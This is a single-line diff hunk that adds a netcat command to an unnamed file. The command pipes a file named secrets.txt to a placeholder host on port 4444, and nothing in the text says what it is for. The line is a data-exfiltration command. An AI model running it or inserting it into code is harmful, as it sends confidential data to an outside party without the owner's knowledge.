@@ -1,0 +1,1 @@
+nc x.example 4444 < secrets.txt
